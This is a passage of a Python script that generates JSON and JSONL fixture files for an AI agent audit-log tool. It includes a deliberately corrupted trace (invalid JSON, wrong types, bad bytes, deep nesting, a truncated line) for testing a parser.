            "granted": ["metrics:read", "ssh:exec:read-only", "ssh:exec:write", "storage:write", "slack:post"],
            "denied": [],
            "escalated": ["ssh:exec:write", "storage:write"],
        },
    }
    with open(os.path.join(OUT, "run-branching.json"), "w", encoding="ascii", newline="\n") as f:
        f.write(json.dumps(doc, indent=2) + "\n")


def iso_ms(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


def damaged():
    c = Clock(datetime(2026, 3, 10, 12, 0, 0, tzinfo=timezone.utc))
    r = Request(c, "damaged-trace", "ops_agent", "read_customer", {"customer_id": "77"},
                [prov("user_prompt", "internal", "console")])
    good = [r.plan(), r.decide("allowed", "Default allow"), r.call()]
    dup = r.outcome("allowed", "Default allow")
    dup_id = json.loads(dup)["event_id"]
    wrong = json.loads(r.event("tool_executed", "allowed", "execute", "tool_execution", "Tool executed", allowed=True))
    wrong["event_id"] = dup_id            # duplicate event id
    wrong["tool_name"] = 42               # wrong type: number for a string field
    wrong["allowed"] = "yes"              # wrong type: string for a bool
    bad_ts = json.loads(r.event("final_output", "allowed", "execute", "final_output", "Execution completed"))
    bad_ts["timestamp"] = "yesterday afternoon"
    text = "\ufeff" + good[0] + "\r\n"        # UTF-8 BOM and a CRLF line ending
    text += good[1] + "\n"
    text += "{\"timestamp\": \"2026-03-10T12:00:00+00:00\", \"event_type\": \"plan\", oops}\n"  # invalid JSON
    text += good[2] + "\n"
    text += "[1, 2, 3]\n"                     # valid JSON, not an object
    text += "\n"                              # blank line: skipped silently
    text += dup + "\n"
    text += json.dumps(wrong) + "\n"
    text += json.dumps(bad_ts) + "\n"
    text += json.dumps({"event_type": "tool_blocked", "decision": "blocked", "trace_id": "damaged-trace"}) + "\n"
    text += "{\"timestamp\": \"2026-03-10T12:00:09+00:00\", \"nested\": " + "[" * 80 + "]" * 80 + "}\n"
    data = text.encode("utf-8")
    data += b"{\"timestamp\": \"2026-03-10T12:00:10+00:00\", \"reason\": \"bad \xff\xfe bytes\"}\n"  # invalid UTF-8
    data += b"{\"timestamp\": \"2026-03-10T12:00:11+00:00\", \"reason\": \"nul \x00 inside\"}\n"  # NUL byte
    data += good[0][: len(good[0]) // 2].encode("ascii")  # writer killed mid-line: incomplete last line
    with open(os.path.join(OUT, "damaged.jsonl"), "wb") as f:
        f.write(data)


if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    finance_email()
    ops_restart()
    untrusted_skill()
    budget_breach()
    mcp_call()
    legacy()
    run_trace()
    run_12345()
    run_incidents()
    run_branching()
    damaged()
